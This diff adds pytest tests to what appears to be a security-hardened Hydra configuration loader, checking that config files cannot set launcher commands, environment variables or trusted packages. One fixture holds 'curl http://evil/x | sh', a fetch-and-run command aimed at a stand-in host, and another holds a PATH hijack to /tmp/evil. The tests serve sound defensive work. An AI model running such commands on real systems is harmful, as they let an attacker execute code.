@@ -54,6 +54,44 @@ def test_hydra_builds_nothing_that_a_file_makes_up(text: str, said: str, folder:
     assert not (folder / "mark").exists()
 
 
+@pytest.mark.parametrize(
+    ("launcher", "text", "key"),
+    [
+        ("slurm", "setup: ['curl http://evil/x | sh']", "hydra.launcher.setup"),
+        ("slurm", "sbatch: {export: 'PATH=/tmp/evil'}", "hydra.launcher.sbatch"),
+        ("ray", "init: {runtime_env: {py_executable: evil}}", "hydra.launcher.init"),
+        ("ray", "address: 'evil:6379'", "hydra.launcher.address"),
+    ],
+)
+def test_what_a_launcher_runs_and_where_is_for_the_command_line(
+    launcher: str, text: str, key: str, folder: Path
+) -> None:
+    preset(folder, f"hydra:\n  launcher: {{{text}}}\n")
+    usual = (f"hydra.searchpath=[file://{folder}]", f"hydra/launcher={launcher}")
+    with pytest.raises(CompactHydraException, match=f"{key}: .* stands in a file"):
+        composed("experiment=evil", *usual)
+    typed = "host:6379" if key.endswith("address") else "{}" if "setup" not in key else "[]"
+    assert composed("experiment=evil", *usual, f"{key}={typed}")
+    assert composed(*usual)
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("overrides: {task: ['trusted_packages=[evil]']}", "hydra.overrides: trusted_packages="),
+        ("overrides: {hydra: ['hydra.job.env_set.PATH=x']}", "hydra.overrides: hydra.job.env_set"),
+    ],
+)
+def test_a_file_has_typed_nothing(text: str, said: str, folder: Path) -> None:
+    evil = "trusted_packages: [evil]\nhydra:\n  job: {env_set: {PATH: x}}\n  "
+    preset(folder, f"{evil}{text}\n")
+    with pytest.raises(CompactHydraException) as refused:
+        composed("experiment=evil", f"hydra.searchpath=[file://{folder}]")
+    assert said in str(refused.value)
+    assert "trusted_packages: [evil] stands in a file" in str(refused.value)
+    assert "hydra.job.env_set.PATH: a file may set" in str(refused.value)
+
+
 def test_a_file_cannot_vouch_for_itself(folder: Path) -> None:
     preset(folder, "trusted_packages: [evil]\nhydra: {callbacks: {x: {_target_: evil.A}}}\n")
     named = ("experiment=evil", f"hydra.searchpath=[file://{folder}]")
